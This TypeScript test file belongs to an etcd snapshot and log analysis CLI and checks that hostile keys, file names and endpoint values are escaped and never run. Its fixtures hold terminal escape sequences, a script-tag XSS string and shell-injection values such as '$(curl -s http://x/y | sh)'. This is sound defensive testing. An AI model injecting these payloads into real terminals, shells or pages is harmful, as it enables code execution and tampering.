// Hostile data never reaches a terminal, a shell command or Markdown raw (issue 14).
//
// The keys are written into a REAL etcd (test/helpers/etcd-server.ts, /usr/bin/etcd on loopback) through
// its v3 JSON gateway (keys travel base64-encoded, so any byte goes through), a snapshot is taken with
// the real etcdctl and ingested by the built CLI under a file name that itself holds ESC [ 2 J. Every
// command's stdout and stderr is then checked byte by byte.
//
// The runbook input is DERIVED from a real capture: test/fixtures/etcd-3.4/endpoint-status.json.txt
// (`etcdctl endpoint status --cluster -w json`, etcd 3.4.23) with the Endpoint string of one member
// replaced by a hostile value (JSON-escaped, as etcdctl's encoding/json would write it).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { chmodSync, copyFileSync, existsSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import MarkdownIt from 'markdown-it';
import { BIN, ROOT, FIXTURES, tempDir } from './helpers/cli.js';
import { startEtcd, etcdctl, gateway } from './helpers/etcd-server.js';
import { shellQuote } from '../src/analyze/runbook.js';
import { safeText } from '../src/report/terminal-safe.js';
import { decodeUtf8Visible } from '../src/units/bytes-text.js';
import { renderBoxTable } from '../src/report/box-table.js';

interface RawRun { code: number; out: Buffer; err: Buffer }

function run(args: string[]): RawRun {
  const r = spawnSync(process.execPath, [BIN, ...args], { cwd: ROOT, maxBuffer: 256 * 1024 * 1024 });
  return { code: r.status ?? -1, out: r.stdout, err: r.stderr };
}

/** No byte a terminal acts on: ESC, BEL, CR, C1 CSI (alone or as U+009B), and no C1/bidi control at all. */
function assertNoRawControls(buf: Buffer, what: string): void {
  for (const [b, name] of [[0x1b, 'ESC'], [0x07, 'BEL'], [0x0d, 'CR'], [0x9b, '0x9b'], [0x08, 'BS'], [0x7f, 'DEL']] as const) {
    assert.equal(buf.indexOf(b), -1, `${what}: raw ${name} at byte ${buf.indexOf(b)}`);
  }
  const text = buf.toString('utf8');
  const bad = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/.exec(text);
  assert.equal(bad, null, `${what}: raw U+${bad?.[0].charCodeAt(0).toString(16)} at ${bad?.index}`);
}

const P = '/hostile/';
/** The keys, as bytes, and how each must show in a table (the visible escape). */
const KEYS: { bytes: Buffer; shown: string; puts: number }[] = [
  { bytes: Buffer.from(`${P}osc\x1b]52;c;aGVsbG8=\x07`), shown: `${P}osc\\x1b]52;c;aGVsbG8=\\x07`, puts: 9 },
  { bytes: Buffer.from(`${P}cls\x1b[2J`), shown: `${P}cls\\x1b[2J`, puts: 8 },
  { bytes: Buffer.from(`${P}a\rb|c<script>alert(1)</script>`), shown: `${P}a\\rb|c<script>alert(1)</script>`, puts: 7 },
  { bytes: Buffer.concat([Buffer.from(`${P}bin`), Buffer.from([0xff])]), shown: `${P}bin\\xff`, puts: 6 },
  { bytes: Buffer.concat([Buffer.from(`${P}bin`), Buffer.from([0xfe])]), shown: `${P}bin\\xfe`, puts: 5 },
  { bytes: Buffer.from(`${P}c1\u009b2J`), shown: `${P}c1\\u009b2J`, puts: 4 },
  { bytes: Buffer.from(`${P}\u202egpj.exe`), shown: `${P}\\u202egpj.exe`, puts: 3 },
  { bytes: Buffer.from(`${P}tick\`\`x\``), shown: `${P}tick\`\`x\``, puts: 2 },
];

test('unit: safeText, safeJson-style escapes and \\xNN key decoding', () => {
  assert.equal(safeText('a\x1b[2Jb\x07\r\n\t\x7f\u009b\u202e\u2066'), 'a\\x1b[2Jb\\x07\\r\\n\\t\\x7f\\u009b\\u202e\\u2066');
  assert.equal(safeText('plain /service/pg/leader …→ 中'), 'plain /service/pg/leader …→ 中');
  assert.equal(safeText('x\ud800y'), 'x\\ud800y');
  assert.equal(decodeUtf8Visible(Buffer.from([0x2f, 0xff])), '/\\xff');
  assert.notEqual(decodeUtf8Visible(Buffer.from([0xff])), decodeUtf8Visible(Buffer.from([0xfe])));
  assert.equal(decodeUtf8Visible(Buffer.from('€ \ufffd ok')), '€ \ufffd ok');
  assert.equal(decodeUtf8Visible(Buffer.from([0xe2, 0x82, 0x41])), '\\xe2\\x82A');
});

test('hostile keys written into a real etcd: every command shows visible escapes, never raw control bytes', async () => {
  const { dir, cleanup } = tempDir('ef-hostile-');
  const etcd = await startEtcd();
  try {
    for (const k of KEYS) {
      for (let i = 0; i < k.puts; i++) {
        await gateway(etcd, 'kv/put', { key: k.bytes.toString('base64'), value: Buffer.from(`v${i}`).toString('base64') });
      }
    }
    const snap = join(dir, 'snap.db');
    etcdctl(etcd, ['snapshot', 'save', snap]);
    // The file name is data too: ESC [ 2 J in it.
    const hostileName = join(dir, 'snap-\x1b[2J.db');
    copyFileSync(snap, hostileName);
    const db = join(dir, 's.db');

    const ing = run(['ingest', '--db', db, '--at', '2026-11-24T07:28:58+08:00', hostileName]);
    assert.equal(ing.code, 0, ing.err.toString());
    assertNoRawControls(ing.out, 'ingest stdout');
    assertNoRawControls(ing.err, 'ingest stderr');
    assert.ok(ing.out.toString().includes('snap-\\x1b[2J.db'), ing.out.toString());

    const tables: [string, string[]][] = [
      ['churn', ['churn']], ['analyze', ['analyze']], ['snapshot', ['snapshot', '--top', '20']],
      ['query', ['query', "SELECT key, revisions FROM snapshot_keys ORDER BY revisions DESC"]],
    ];
    for (const [name, args] of tables) {
      const r = run([...args, '--db', db]);
      assert.equal(r.code, 0, `${name}: ${r.err.toString()}`);
      assertNoRawControls(r.out, `${name} stdout`);
      assertNoRawControls(r.err, `${name} stderr`);
      const text = r.out.toString('utf8');
      for (const k of KEYS) assert.ok(text.includes(k.shown), `${name} shows ${JSON.stringify(k.shown)}`);
      // \xff and \xfe are two keys, not one U+FFFD key.
      assert.ok(!text.includes('\ufffd'), `${name}: no U+FFFD`);
    }
    for (const args of [['timeline'], ['sources'], ['recommend'], ['growth'], ['project'], ['report'], ['report', '--format', 'html']]) {
      const r = run([...args, '--db', db]);
      assert.equal(r.code, 0, `${args.join(' ')}: ${r.err.toString()}`);
      assertNoRawControls(r.out, `${args.join(' ')} stdout`);
      assertNoRawControls(r.err, `${args.join(' ')} stderr`);
    }
    assert.ok(run(['sources', '--db', db]).out.toString().includes('snap-\\x1b[2J.db'));
    assert.ok(run(['report', '--format', 'html', '--db', db]).out.toString().includes('a\\rb|c&lt;script&gt;'), 'the key as text in the HTML');

    // JSON stays JSON: the exact key text comes back from the parser, and the bytes on the wire are safe.
    for (const args of [['churn', '--json'], ['snapshot', '--json'], ['query', '--json', 'SELECT key FROM snapshot_keys'], ['sources', '--json']]) {
      const r = run([...args, '--db', db]);
      assert.equal(r.code, 0, r.err.toString());
      assertNoRawControls(r.out, `${args.join(' ')} stdout`);
      JSON.parse(r.out.toString());
    }
    const keys = (JSON.parse(run(['query', '--json', '--db', db, 'SELECT key FROM snapshot_keys']).out.toString()) as { key: string }[]).map((x) => x.key);
    assert.ok(keys.includes(`${P}osc\x1b]52;c;aGVsbG8=\x07`), 'stored exactly');
    assert.ok(keys.includes(`${P}bin\\xff`) && keys.includes(`${P}bin\\xfe`), 'the two invalid bytes stay two keys');
    assert.ok(keys.includes(`${P}c1\u009b2J`));

    // Markdown: a real parser (markdown-it, CommonMark + GFM tables) sees no raw <script> and one row per key.
    const md = run(['report', '--db', db]).out.toString();
    const churn = JSON.parse(run(['churn', '--json', '--db', db]).out.toString()) as { churn: { keys: unknown[] } };
    // html: true, so raw HTML in the document WOULD come through: the check below then means something.
    const parser = new MarkdownIt({ html: true });
    const html = parser.render(md);
    assert.ok(!/<script/i.test(html), 'no raw <script> in the rendered Markdown');
    assert.ok(html.includes('a\\rb|c&lt;script&gt;alert(1)&lt;/script&gt;'), 'the CR key shows as text, \\r visible');
    const tokens = parser.parse(md, {});
    const at = tokens.findIndex((t, i) => t.type === 'heading_open' && tokens[i + 1]?.content === 'Keys');
    assert.ok(at > 0, 'a Keys section');
    let rows = 0;
    let cellsInRow = 0;
    let inBody = false;
    for (let i = at; i < tokens.length && tokens[i]!.type !== 'table_close'; i++) {
      const t = tokens[i]!;
      if (t.type === 'tbody_open') inBody = true;
      if (inBody && t.type === 'tr_open') { rows++; cellsInRow = 0; }
      if (inBody && t.type === 'td_open') cellsInRow++;
      if (inBody && t.type === 'tr_close') assert.equal(cellsInRow, 6, `row ${rows} has 6 cells`);
    }
    assert.equal(rows, churn.churn.keys.length, 'one table row per key');
    assert.ok(churn.churn.keys.length >= KEYS.length);
    // The same document through Debian's cmark-gfm (GitHub's parser) with raw HTML allowed (--unsafe).
    const gfm = spawnSync('/usr/bin/cmark-gfm', ['--unsafe', '-e', 'table', '-e', 'autolink', '-e', 'tagfilter'], { input: md, encoding: 'utf8' });
    assert.equal(gfm.status, 0, gfm.stderr);
    assert.ok(!/<script/i.test(gfm.stdout), 'no raw <script> from cmark-gfm');
    const keysTable = gfm.stdout.slice(gfm.stdout.indexOf('<h3>Keys</h3>'));
    const body = keysTable.slice(keysTable.indexOf('<tbody>'), keysTable.indexOf('</table>'));
    assert.equal(body.split('<tr>').length - 1, churn.churn.keys.length, 'cmark-gfm: one table row per key');
    assert.ok(body.includes('a\\rb|c&lt;script&gt;alert(1)&lt;/script&gt;'), 'cmark-gfm: the CR key as text');
  } finally {
    await etcd.stop();
    cleanup();
  }
});

test('shellQuote: bash reads a hostile value back as one literal argument and runs nothing', () => {
  const { dir, cleanup } = tempDir('ef-shell-');
  try {
    const marker = join(dir, 'PWNED');
    for (const v of ['http://127.0.0.1:2379 $(curl -s http://x/y | sh)', `http://x:1 $(touch ${marker})`, "a'b\"c`touch " + marker + '`', 'x;touch ' + marker, '\n$(touch ' + marker + ')']) {
      const script = `printf '%s\\0' ${shellQuote(v)}`;
      assert.equal(spawnSync('bash', ['-n', '-c', script]).status, 0, script);
      const r = spawnSync('bash', ['-c', script], { encoding: 'utf8' });
      assert.equal(r.status, 0, r.stderr);
      assert.deepEqual(r.stdout.split('\0').slice(0, -1), [v], script);
    }
    assert.ok(!existsSync(marker), 'nothing was executed');
  } finally {
    cleanup();
  }
});

test('runbook: a hostile endpoint from the data is left out with a note; the commands, run by bash, run only etcdctl', () => {
  const { dir, cleanup } = tempDir('ef-runbook-');
  try {
    const hostile = 'http://127.0.0.1:2379 $(curl -s http://x/y | sh)';
    const real = readFileSync(join(FIXTURES, 'etcd-3.4', 'endpoint-status.json.txt'), 'utf8');
    assert.ok(real.includes('"Endpoint":"http://127.0.0.1:33463"'));
    const derived = real.replaceAll('"Endpoint":"http://127.0.0.1:33463"', `"Endpoint":${JSON.stringify(hostile)}`);
    const input = join(dir, 'endpoint-status-hostile.json.txt');
    writeFileSync(input, derived);
    const db = join(dir, 's.db');
    const ing = run(['ingest', '--db', db, '--at', '2026-11-24T07:28:58+08:00', input]);
    assert.equal(ing.code, 0, ing.err.toString());

    const table = run(['recommend', '--db', db, '--full']); // --full: the sentence checked below unwrapped
    assert.equal(table.code, 0, table.err.toString());
    assertNoRawControls(table.out, 'recommend');
    const text = table.out.toString();
    assert.ok(text.includes(`Left out of the commands: 1 endpoint value from the data that is not a URL or host:port (${shellQuote(hostile)})`), text);

    const json = JSON.parse(run(['recommend', '--json', '--db', db]).out.toString()) as { recommendations: { id: string; commands: string[] }[] };
    const commands = json.recommendations.find((r) => r.id === 'runbook')!.commands;
    assert.ok(commands.every((c) => !c.includes('$(curl')), commands.join('\n'));
    assert.ok(commands.some((c) => c.includes('--endpoints=http://127.0.0.1:40479')), 'the plausible endpoint stays');

    // Run the runbook with etcdctl, curl and sh replaced by recorders: only etcdctl may ever run.
    const bin = join(dir, 'bin');
    mkdirSync(bin);
    const log = join(dir, 'ran.log');
    for (const name of ['etcdctl', 'curl', 'sh']) {
      writeFileSync(join(bin, name), `#!/bin/bash\nprintf '%s' ${name} >> ${shellQuote(log)}\nprintf ' %s' "$@" >> ${shellQuote(log)}\necho >> ${shellQuote(log)}\n`);
      chmodSync(join(bin, name), 0o755);
    }
    const script = join(dir, 'runbook.sh');
    writeFileSync(script, `${commands.join('\n')}\n`);
    assert.equal(spawnSync('/usr/bin/bash', ['-n', script]).status, 0, 'the runbook parses');
    const r = spawnSync('/usr/bin/bash', [script], { cwd: dir, encoding: 'utf8', env: { PATH: `${bin}:/usr/bin:/bin` } });
    assert.equal(r.status, 0, r.stderr);
    const ran = readFileSync(log, 'utf8').trim().split('\n');
    assert.ok(ran.length >= commands.length - 1, ran.join('\n'));
    for (const line of ran) assert.match(line, /^etcdctl --endpoints=http:\/\/127\.0\.0\.1:40479 /, line);
    // Nothing else was created by the runbook (a redirect from a placeholder, a file written by a payload).
    assert.deepEqual(readdirSync(dir).filter((f) => !f.startsWith('s.db')).sort(), ['bin', 'endpoint-status-hostile.json.txt', 'ran.log', 'runbook.sh']);
  } finally {
    cleanup();
  }
});

test('query renders 200k rows as a table without a stack overflow (cli-table3 spread every row into one push.apply)', async () => {
  const { dir, cleanup } = tempDir('ef-bigtable-');
  try {
    // A generated etcd 3.4 zap log replaying real captured lines (bench/gen-etcd-log.ts): ~100k events
    // in 31 MB; each event twice (a cross join) gives the 200k-row table.
    const log = join(dir, 'etcd-nospace.log');
    const gen = spawnSync(process.execPath, ['--import', 'tsx', join(ROOT, 'bench', 'gen-etcd-log.ts'), 'nospace', log, String(31_000_000)], { cwd: ROOT, encoding: 'utf8' });
    assert.equal(gen.status, 0, gen.stderr);
    const db = join(dir, 's.db');
    // --keep-raw: a row per line (the default store folds the repeated lines per minute: 11,720 rows).
    const ing = run(['ingest', '--db', db, '--keep-raw', '--tz', 'Asia/Shanghai', log]);
    assert.equal(ing.code, 0, ing.err.toString());
    const sql = 'SELECT e.id, e.line, e.ts_ms, e.kind, e.level, e.message, k.n FROM events e CROSS JOIN (SELECT 1 AS n UNION ALL SELECT 2) k';
    const n = (JSON.parse(run(['query', '--json', '--db', db, `SELECT count(*) AS n FROM (${sql})`]).out.toString()) as { n: number }[])[0]!.n;
    assert.ok(n >= 200_000, `${n} rows`);
    // Stream stdout: keep its size and the last bytes.
    const child = spawn(process.execPath, [BIN, 'query', '--db', db, sql], { cwd: ROOT, stdio: ['ignore', 'pipe', 'pipe'] });
    let bytes = 0;
    let tail = Buffer.alloc(0);
    let esc = 0;
    const stderr: Buffer[] = [];
    child.stdout.on('data', (c: Buffer) => { bytes += c.length; esc += c.includes(0x1b) ? 1 : 0; tail = Buffer.concat([tail, c]).subarray(-65536); });
    child.stderr.on('data', (c: Buffer) => stderr.push(c));
    const code = await new Promise<number>((resolve) => child.on('close', (c) => resolve(c ?? -1)));
    assert.equal(Buffer.concat(stderr).toString(), '', 'no error');
    assert.equal(code, 0);
    assert.equal(esc, 0);
    const lines = tail.toString('utf8').split('\n');
    assert.equal(lines.at(-2), `${n} rows`);
    assert.match(lines.at(-3)!, /^└─+┴/);
    assert.match(lines.at(-4)!, /^│ \d+ +│/, 'the last body row');
    assert.ok(bytes > n * 50, `${bytes} bytes for ${n} rows`);
  } finally {
    cleanup();
  }
});

test('analyze/timeline tables: 200k timeline rows render (no spread over the rows), ruled only under the header', () => {
  const rows = Array.from({ length: 200_000 }, (_, i) => [`2026-11-24T00:00:${String(i % 60).padStart(2, '0')}Z`, 'm1', 'etcd.nospace', `line ${i}`, 'etcd.log:1']);
  const out = renderBoxTable(['at', 'member', 'event', 'summary', 'source'], rows);
  const lines = out.split('\n');
  assert.equal(lines.length, 200_000 + 4, 'top, header, one rule, rows, bottom');
  assert.match(lines[2]!, /^├─+┼/);
  assert.match(lines[3]!, /^│ 2026-11-24T00:00:00Z │ m1 /);
  // A short table keeps cli-table3's look: a rule between every row.
  assert.equal(renderBoxTable(['a'], [['1'], ['2']]), ['┌───┐', '│ a │', '├───┤', '│ 1 │', '├───┤', '│ 2 │', '└───┘'].join('\n'));
});

test('messages: a skipped line excerpt, an unknown option and a bad --db path are shown with visible escapes', () => {
  const { dir, cleanup } = tempDir('ef-msg-');
  try {
    // The first 30 lines of the real etcd 3.4.23 zap capture, then one of them cut short and given
    // ESC [ 2 J and OSC 52 (a line no parser can read: it is skipped, and its excerpt is printed).
    const real = readFileSync(join(FIXTURES, 'etcd-3.4', 'etcd-zap.log'), 'utf8').split('\n').slice(0, 30);
    const broken = `${real[5]!.slice(0, 40)}\x1b[2J\x1b]52;c;aGk=\x07\r`;
    const log = join(dir, 'etcd.log');
    writeFileSync(log, `${[...real, broken].join('\n')}\n`);
    const ing = run(['ingest', '--db', join(dir, 's.db'), '--tz', 'Asia/Shanghai', log]);
    assertNoRawControls(ing.out, 'ingest stdout');
    assertNoRawControls(ing.err, 'ingest stderr');
    assert.ok(ing.err.toString().includes(':31: skipped: '), ing.err.toString());
    assert.ok(ing.err.toString().includes('\\x1b[2J\\x1b]52;c;aGk=\\x07'), ing.err.toString());

    const opt = run(['churn', '--bogus\x1b[2J']);
    assert.equal(opt.code, 2);
    assertNoRawControls(opt.err, 'unknown option');
    assert.ok(opt.err.toString().includes('--bogus\\x1b[2J'), opt.err.toString());

    const bad = run(['query', '--db', join(dir, 'no\x1b[2Jdir', 's.db'), 'SELECT 1']);
    assert.notEqual(bad.code, 0);
    assertNoRawControls(bad.err, 'bad --db');
    assert.ok(bad.err.toString().includes('no\\x1b[2Jdir'), bad.err.toString());
  } finally {
    cleanup();
  }
});
